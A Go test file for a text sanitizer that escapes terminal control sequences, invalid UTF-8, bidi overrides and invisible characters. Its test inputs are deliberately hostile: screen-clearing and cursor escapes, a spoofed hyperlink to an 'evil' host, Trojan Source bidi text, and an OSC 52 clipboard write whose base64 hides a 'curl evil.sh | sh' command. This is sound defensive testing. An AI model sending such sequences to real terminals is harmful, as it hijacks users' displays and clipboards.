package safetext

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string // Escape
		line string // EscapeLine; empty means same as want
	}{
		{name: "empty", in: "", want: ""},
		{name: "plain ASCII", in: "v=spf1 include:amazonses.com ~all", want: "v=spf1 include:amazonses.com ~all"},
		{name: "DKIM CNAME target", in: "abc123.dkim.amazonses.com", want: "abc123.dkim.amazonses.com"},
		{name: "non-ASCII letters untouched", in: "bücher.example 例え Ελληνικά", want: "bücher.example 例え Ελληνικά"},
		{name: "emoji untouched", in: "ok ✅ 🚀", want: "ok ✅ 🚀"},
		{name: "backslash untouched", in: `a\b \x1b`, want: `a\b \x1b`},
		{name: "line feed kept by Escape", in: "one\ntwo", want: "one\ntwo", line: `one\ntwo`},
		{name: "tab", in: "a\tb", want: `a\tb`},
		{name: "carriage return overwrite", in: "safe\rEVIL", want: `safe\rEVIL`},
		{name: "CRLF", in: "a\r\nb", want: "a\\r\nb", line: `a\r\nb`},
		{name: "NUL BEL BS VT FF", in: "\x00\a\b\v\f", want: `\x00\x07\x08\x0b\x0c`},
		{name: "clear screen", in: "\x1b[2J\x1b[H", want: `\x1b[2J\x1b[H`},
		{name: "cursor up", in: "x\x1b[1A\x1b[2Ky", want: `x\x1b[1A\x1b[2Ky`},
		{name: "set title OSC 0 BEL", in: "\x1b]0;pwned\a", want: `\x1b]0;pwned\x07`},
		{name: "OSC 52 clipboard write ST", in: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\", want: `\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\`},
		{name: "hyperlink OSC 8", in: "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", want: `\x1b]8;;http://evil\x1b\click\x1b]8;;\x1b\`},
		{name: "DEL", in: "a\x7fb", want: `a\x7fb`},
		{name: "C1 CSI as UTF-8", in: "\u009b2J", want: `\u009b2J`},
		{name: "C1 OSC and ST as UTF-8", in: "\u009d0;t\u009c", want: `\u009d0;t\u009c`},
		{name: "C1 NEL", in: "a\u0085b", want: `a\u0085b`},
		{name: "raw 8-bit CSI byte", in: "\x9b2J", want: `\x9b2J`},
		{name: "raw byte 0xff", in: "a\xffb", want: `a\xffb`},
		{name: "truncated UTF-8", in: "b\xc3", want: `b\xc3`},
		{name: "overlong slash", in: "\xc0\xaf", want: `\xc0\xaf`},
		{name: "encoded surrogate", in: "\xed\xa0\x80", want: `\xed\xa0\x80`},
		{name: "Trojan Source RLO", in: "access\u202e\u2066// admin\u2069\u2066", want: `access\u202e\u2066// admin\u2069\u2066`},
		{name: "every bidi embedding and override", in: "\u202a\u202b\u202c\u202d\u202e", want: `\u202a\u202b\u202c\u202d\u202e`},
		{name: "bidi isolates", in: "\u2066\u2067\u2068\u2069", want: `\u2066\u2067\u2068\u2069`},
		{name: "LRM RLM ALM", in: "\u200e\u200f\u061c", want: `\u200e\u200f\u061c`},
		{name: "zero-width", in: "am\u200bazon\u200c\u200d\u2060ses", want: `am\u200bazon\u200c\u200d\u2060ses`},
		{name: "BOM", in: "\ufeffv=DMARC1", want: `\ufeffv=DMARC1`},
		{name: "soft hyphen", in: "ama\u00adzon", want: `ama\u00adzon`},
		{name: "tag characters", in: "hi\U000e0041\U000e007f", want: `hi\U000e0041\U000e007f`},
		{name: "line and paragraph separators", in: "a\u2028b\u2029c", want: `a\u2028b\u2029c`},
		{name: "literal U+FFFD kept", in: "a\ufffdb", want: "a\ufffdb"},
		{name: "mixed", in: "ünï\x1b[31m\u202e\xfe\n", want: "ünï\\x1b[31m\\u202e\\xfe\n", line: `ünï\x1b[31m\u202e\xfe\n`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Escape(tt.in); got != tt.want {
				t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			wantLine := tt.line
			if wantLine == "" {
				wantLine = tt.want
			}
			if got := EscapeLine(tt.in); got != wantLine {
				t.Errorf("EscapeLine(%q) = %q, want %q", tt.in, got, wantLine)
			}
		})
	}
}

func TestEscapeSafeTextDoesNotAllocate(t *testing.T) {
	s := "v=DMARC1; p=none; rua=mailto:dmarc-reports@bücher.example"
	allocs := testing.AllocsPerRun(100, func() {
		if Escape(s) != s || EscapeLine(s) != s {
			t.Fatal("safe text changed")
		}
	})
	if allocs != 0 {
		t.Errorf("escaping safe text allocated %.0f times per run, want 0", allocs)
	}
}

// TestEscapeProperties checks the output invariants on random strings made
// of a mix of safe and hostile pieces.
func TestEscapeProperties(t *testing.T) {
	pieces := []string{
		"a", "Z", "0", " ", "\\", "\"", ";", "=", "ü", "例", "🚀", "\ufffd",
		"\x00", "\x07", "\b", "\t", "\n", "\r", "\x1b", "\x1b[2J", "\x1b]52;c;", "\x7f",
		"\u0080", "\u0085", "\u009b", "\u009f", "\x80", "\x9b", "\xc3", "\xe2\x80", "\xff",
		"\u061c", "\u200b", "\u200d", "\u200e", "\u200f", "\u202a", "\u202e", "\u2060",
		"\u2066", "\u2069", "\u2028", "\u2029", "\ufeff", "\U000e0041", "\u00ad",
	}
	rng := rand.New(rand.NewPCG(1, 2))
	for range 5000 {
		var b strings.Builder
		for range rng.IntN(12) {
			b.WriteString(pieces[rng.IntN(len(pieces))])
		}
		checkEscaped(t, b.String())
	}
}

func FuzzEscape(f *testing.F) {
	// Seeds live in testdata/fuzz/FuzzEscape; these add the obvious ones.
	f.Add("plain text")
	f.Add("\x1b]52;c;ZXZpbA==\a")
	f.Fuzz(func(t *testing.T, s string) {
		checkEscaped(t, s)
	})
}

// checkEscaped asserts the invariants of Escape and EscapeLine on input in.
// It decides what is unsafe on its own, from the ranges named in the
// package documentation, rather than by asking the implementation.
func checkEscaped(t *testing.T, in string) {
	t.Helper()
	out, line := Escape(in), EscapeLine(in)
	for _, c := range []struct {
		name   string
		out    string
		keepLF bool
	}{{"Escape", out, true}, {"EscapeLine", line, false}} {
		if !utf8.ValidString(c.out) {
			t.Fatalf("%s(%q) = %q: not valid UTF-8", c.name, in, c.out)
		}
		for i := 0; i < len(c.out); i++ {
			b := c.out[i]
			if (b < 0x20 && !(b == '\n' && c.keepLF)) || b == 0x7f {
				t.Fatalf("%s(%q) = %q: byte %#x at %d", c.name, in, c.out, b, i)
			}
		}
		for _, r := range c.out {
			if hostile(r) {
				t.Fatalf("%s(%q) = %q: contains %U", c.name, in, c.out, r)
			}
		}
	}
	if Escape(out) != out || EscapeLine(line) != line {
		t.Fatalf("escaping %q twice changed it: %q, %q", in, Escape(out), EscapeLine(line))
	}
	if want := strings.ReplaceAll(out, "\n", `\n`); line != want {
		t.Fatalf("EscapeLine(%q) = %q, want Escape with line feeds escaped: %q", in, line, want)
	}
	if utf8.ValidString(in) && !strings.ContainsFunc(in, notGraphic) && out != in {
		t.Fatalf("Escape(%q) = %q: changed text with nothing to escape", in, out)
	}
}

// notGraphic reports whether r is neither a line feed nor a letter, mark,
// number, punctuation, symbol or space: text made only of those must come
// back unchanged.
func notGraphic(r rune) bool {
	return r != '\n' && !unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S, unicode.Zs)
}

// hostile reports whether r is a non-ASCII rune that must never reach the
// terminal: C1 controls, bidi controls, invisible format characters and the
// Unicode line separators.
func hostile(r rune) bool {
	switch {
	case r >= 0x80 && r <= 0x9f,
		r == 0x061c, r == 0x00ad,
		r >= 0x200b && r <= 0x200f,
		r >= 0x2028 && r <= 0x202e,
		r >= 0x2060 && r <= 0x2069,
		r == 0xfeff,
		r >= 0xe0000 && r <= 0xe007f:
		return true
	}
	return false
}
